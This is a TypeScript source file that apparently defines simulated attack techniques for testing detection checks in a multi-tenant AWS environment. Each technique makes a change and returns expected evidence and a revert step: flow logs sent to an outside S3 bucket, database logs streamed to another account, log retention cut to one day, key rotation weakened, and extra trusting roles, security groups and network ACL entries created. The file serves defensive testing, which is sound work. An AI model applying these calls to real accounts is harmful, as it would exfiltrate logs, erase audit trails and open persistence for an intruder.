import {
  DeleteMetricFilterCommand,
  DeleteSubscriptionFilterCommand,
  PutMetricFilterCommand,
  PutRetentionPolicyCommand,
  PutSubscriptionFilterCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import {
  CreateFlowLogsCommand,
  CreateNetworkAclCommand,
  CreateNetworkAclEntryCommand,
  CreateSecurityGroupCommand,
  DeleteFlowLogsCommand,
  DeleteNetworkAclCommand,
  DeleteNetworkAclEntryCommand,
  DeleteSecurityGroupCommand,
  DescribeNetworkAclsCommand,
  type EC2Client,
  type FlowLogsResourceType,
} from '@aws-sdk/client-ec2';
import { CreateRoleCommand, DeleteRoleCommand } from '@aws-sdk/client-iam';
import { DisableKeyRotationCommand, EnableKeyRotationCommand } from '@aws-sdk/client-kms';
import { TENANT_ROLE_PATH } from '../../../functions/contract/naming';
import { type Subject, tenantIdOf, vpcOf } from '../../../functions/isolation/subject';
import { flowLogsRoleOf, roleNameOf } from '../identity-changes';
import { accountOf, flowLogsOf, postgresqlLogOf } from '../key-changes';
import { anInterface, firstSubnetOf, governedBy, withMade } from '../network-changes';
import { rolePolicy } from '../policies';
import { type AttackTechnique, type Revert, STRANGER, tenantTags } from '../technique';

const tags = (subject: Subject) => tenantTags(tenantIdOf(subject));

/** One more flow log, which goes to a stranger's bucket. */
async function flowLogOf(ec2: EC2Client, ResourceType: FlowLogsResourceType, id: string): Promise<Revert> {
  const LogDestination = 'arn:aws:s3:::strangers-flow-logs';
  const { FlowLogIds } = await ec2.send(
    new CreateFlowLogsCommand({
      ...{ ResourceIds: [id], ResourceType, TrafficType: 'ALL' },
      ...{ LogDestinationType: 's3', LogDestination },
    }),
  );
  return () => ec2.send(new DeleteFlowLogsCommand({ FlowLogIds }));
}

const sent = (id: string) => `of ${id} sends traffic to arn:aws:s3:::strangers-flow-logs`;

const furtherFlowLog = (
  name: string,
  resource: (subject: Subject) => { type: 'VPC' | 'Subnet'; id: string },
): AttackTechnique => ({
  name,
  check: 'network.flow-logs',
  detonate: async ({ subject, root: { ec2 } }) => {
    const { type, id } = resource(subject);
    return { expectedEvidence: sent(id), revert: await flowLogOf(ec2, type, id) };
  },
});

const forgotten = (name: string, group: (subject: Subject) => string, days: number): AttackTechnique => ({
  name,
  check: 'key.logs',
  detonate: async ({ subject, root: { logs } }) => {
    const logGroupName = group(subject);
    const before = logGroupName === flowLogsOf(subject) ? 365 : 90;
    const kept = (retentionInDays: number) =>
      logs.send(new PutRetentionPolicyCommand({ logGroupName, retentionInDays }));
    await kept(days);
    return {
      expectedEvidence: `log group ${logGroupName} is forgotten after 1 days, not ${before}`,
      revert: () => kept(before),
    };
  },
});

const streamed = (name: string, group: (subject: Subject) => string, destinationArn: string): AttackTechnique => ({
  name,
  check: 'logs.subscriptions',
  detonate: async ({ subject, root: { logs } }) => {
    const filter = { logGroupName: group(subject), filterName: 'everything' };
    await logs.send(new PutSubscriptionFilterCommand({ ...filter, filterPattern: '', destinationArn }));
    return {
      expectedEvidence: `sends log group ${filter.logGroupName} to ${destinationArn}`,
      revert: () => logs.send(new DeleteSubscriptionFilterCommand(filter)),
    };
  },
});

const trusting = (principal: object) =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: principal, Action: 'sts:AssumeRole' }],
  });

const furtherRole = (
  name: string,
  role: (subject: Subject) => { RoleName: string; Path?: string; Tags?: { Key: string; Value: string }[] },
): AttackTechnique => ({
  name,
  check: 'identity.only-roles',
  detonate: async ({ subject, root: { iam } }) => {
    const made = role(subject);
    const AssumeRolePolicyDocument = trusting({ AWS: accountOf(subject) });
    await iam.send(new CreateRoleCommand({ ...made, AssumeRolePolicyDocument }));
    return {
      expectedEvidence: `role ${made.RoleName} has the tenant’s name or tag`,
      revert: () => iam.send(new DeleteRoleCommand({ RoleName: made.RoleName })),
    };
  },
});

const furtherGroup = (name: string, GroupName: string): AttackTechnique => ({
  name,
  check: 'network.groups',
  detonate: async ({ subject, root: { ec2 } }) => {
    const { GroupId } = await ec2.send(
      new CreateSecurityGroupCommand({ VpcId: vpcOf(subject), GroupName, Description: 'for later' }),
    );
    return {
      expectedEvidence: `security group ${GroupId} (${GroupName}) is in the VPC`,
      revert: () => ec2.send(new DeleteSecurityGroupCommand({ GroupId })),
    };
  },
});

const aclsOf = (subject: Subject) => ({ Filters: [{ Name: 'vpc-id', Values: [vpcOf(subject)] }] });

export const MEMBER_TECHNIQUES: readonly AttackTechnique[] = [
  {
    name: 'rotate the key every seven years',
    check: 'key.rotation',
    detonate: async ({ subject, root: { kms } }) => {
      const KeyId = subject.key.keyArn;
      const every = (RotationPeriodInDays: number) =>
        kms.send(new EnableKeyRotationCommand({ KeyId, RotationPeriodInDays }));
      await every(2557);
      return {
        expectedEvidence: 'the key rotates every 2557 days',
        revert: async () => {
          await kms.send(new DisableKeyRotationCommand({ KeyId }));
          await every(365);
        },
      };
    },
  },
  forgotten('let the flow logs be forgotten after a day', flowLogsOf, 1),
  forgotten('let the database’s log be forgotten after a day', postgresqlLogOf, 1),
  furtherFlowLog('send a second flow log to a stranger’s bucket', (subject) => ({ type: 'VPC', id: vpcOf(subject) })),
  furtherFlowLog('send a subnet’s flow log to a stranger’s bucket', (subject) => ({
    type: 'Subnet',
    id: firstSubnetOf(subject) ?? '',
  })),
  {
    // RDS has no interface of its own here.
    name: 'send the flow log of an interface in the VPC to a stranger’s bucket',
    check: 'network.flow-logs',
    detonate: async ({ subject, root: { ec2 } }) => {
      const made = await anInterface(ec2, firstSubnetOf(subject), 'RDSNetworkInterface');
      const revert = await withMade(made, () => flowLogOf(ec2, 'NetworkInterface', made.id));
      return { expectedEvidence: sent(made.id), revert };
    },
  },
  {
    name: 'take the flow logs’ role its policy',
    check: 'network.flow-logs',
    detonate: async ({ subject, root }) => ({
      expectedEvidence: `nothing is delivered: role ${flowLogsRoleOf(subject)} may not`,
      revert: await rolePolicy(
        root,
        flowLogsRoleOf(subject),
        (statements) => statements.map((each) => ({ ...each, Action: 'logs:DescribeLogStreams' })),
        'flow-logs',
      ),
    }),
  },
  streamed(
    'stream the database’s log to another account',
    postgresqlLogOf,
    `arn:aws:logs:eu-central-1:${STRANGER}:destination:theirs`,
  ),
  streamed('stream the flow logs to a function', flowLogsOf, 'arn:aws:lambda:eu-central-1:000000000000:function:copy'),
  {
    name: 'turn users of the database into metrics',
    check: 'logs.filters',
    detonate: async ({ subject, root: { logs } }) => {
      const filter = { logGroupName: postgresqlLogOf(subject), filterName: 'users' };
      const metricTransformations = [{ metricName: 'logins', metricNamespace: 'users', metricValue: '1' }];
      await logs.send(new PutMetricFilterCommand({ ...filter, filterPattern: 'connection', metricTransformations }));
      return {
        expectedEvidence: `log group ${filter.logGroupName} has 1 metric filters`,
        revert: () => logs.send(new DeleteMetricFilterCommand(filter)),
      };
    },
  },
  furtherRole('make a third role of the tenant that trusts the account', (subject) => ({
    RoleName: `${roleNameOf(subject)}-support`,
    Path: TENANT_ROLE_PATH,
    Tags: tags(subject),
  })),
  furtherRole('make a role with the tenant’s name outside the tenants’ path', (subject) => ({
    RoleName: `analytics-${tenantIdOf(subject)}`,
  })),
  furtherRole('make a role of no name with the tenant’s tag', (subject) => ({
    RoleName: 'exporter',
    Tags: tags(subject),
  })),
  furtherGroup('make a group that lets everybody in, on nothing yet', 'everybody'),
  furtherGroup('make a group that is called like the database’s', 'database'),
  {
    name: 'put a network ACL between cell and database',
    check: 'network.acls',
    detonate: async (scene) => {
      const { subject, root } = scene;
      const { ec2 } = root;
      const { NetworkAcl } = await ec2.send(new CreateNetworkAclCommand({ VpcId: vpcOf(subject) }));
      const NetworkAclId = NetworkAcl?.NetworkAclId;
      const giveBack = await governedBy(scene, NetworkAclId);
      return {
        expectedEvidence: `network ACL ${NetworkAclId} does not let all inbound traffic pass`,
        revert: async () => {
          await giveBack();
          await ec2.send(new DeleteNetworkAclCommand({ NetworkAclId }));
        },
      };
    },
  },
  {
    name: 'deny the cell in the default network ACL',
    check: 'network.acls',
    detonate: async ({ subject, root: { ec2 } }) => {
      const { NetworkAcls = [] } = await ec2.send(new DescribeNetworkAclsCommand(aclsOf(subject)));
      const NetworkAclId = NetworkAcls.find(({ IsDefault }) => IsDefault)?.NetworkAclId;
      const entry = { NetworkAclId, RuleNumber: 50, Egress: false };
      await ec2.send(
        new CreateNetworkAclEntryCommand({
          ...entry,
          Protocol: '-1',
          RuleAction: 'deny',
          CidrBlock: subject.cell.appCidr,
        }),
      );
      return {
        expectedEvidence: `network ACL ${NetworkAclId} denies inbound traffic with ${subject.cell.appCidr}`,
        revert: () => ec2.send(new DeleteNetworkAclEntryCommand(entry)),
      };
    },
  },
];
